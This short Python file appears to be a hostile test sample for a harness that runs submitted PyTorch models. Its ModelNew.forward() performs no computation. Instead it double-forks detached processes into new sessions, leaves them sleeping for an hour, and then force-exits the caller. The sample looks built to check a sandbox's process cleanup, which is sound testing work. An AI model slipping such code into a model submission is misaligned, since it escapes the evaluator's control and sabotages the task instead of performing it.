"""Leaves children of children behind, in sessions of their own, and ends."""

import os
import time

import torch.nn as nn


class ModelNew(nn.Module):
    def forward(self, x):
        for _ in range(4):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(3600)
                os._exit(0)
        os._exit(0)
